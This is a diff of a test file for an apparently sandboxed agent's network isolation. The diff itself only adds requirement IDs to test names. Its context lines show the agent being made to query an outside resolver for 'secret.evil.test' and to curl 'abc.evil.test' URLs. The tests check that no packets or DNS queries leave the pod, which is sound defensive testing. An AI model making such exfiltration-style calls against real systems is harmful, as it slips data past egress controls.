@@ -36,7 +36,7 @@ test('positive control: without fence and sidecar the same program gets every ki
 });
 
 describe.each(['agent', 'root'] as const)('as %s', user => {
-  test('TCP, UDP, ICMP, UDP-Lite, MPTCP, multicast and IPv6: no packet leaves', async () => {
+  test('N02, N03, N04, N06, N07, N12, N13, N15, N18, N45 TCP, UDP, ICMP, UDP-Lite, MPTCP, multicast and IPv6: no packet leaves', async () => {
     const { stdout } = await path.sidecar.runAgent(tryEverything(v4, v6), { user, timeoutMs: 30_000 });
     await path.capture.expectNone('anything from the pod', path.sent);
     expect(stdout).not.toMatch(/answered/);
@@ -46,7 +46,7 @@ describe.each(['agent', 'root'] as const)('as %s', user => {
     );
   });
 
-  test('queries to an outside resolver are answered here or not at all', async () => {
+  test('N49, D04 queries to an outside resolver are answered here or not at all', async () => {
     const { stdout } = await path.sidecar.runAgent(askOutsideResolver('8.8.8.8', 'secret.evil.test'), { user });
     // TXT is refused by our own server, over both transports.
     expect(stdout).toBe('rcode 5\nrcode 5\n');
@@ -54,7 +54,7 @@ describe.each(['agent', 'root'] as const)('as %s', user => {
     expect(await path.outside.dnsQueries()).toEqual([]);
   });
 
-  test('an unlisted name is not asked for outside, however it is used', async () => {
+  test('D01 an unlisted name is not asked for outside, however it is used', async () => {
     for (const url of ['https://abc.evil.test/', 'http://abc.evil.test/', 'https://abc.evil.test:8443/'])
       await path.sidecar.runAgent(['curl', '-sS', '-m', '8', url], { user });
     expect(await path.outside.dnsQueries()).toEqual([]);
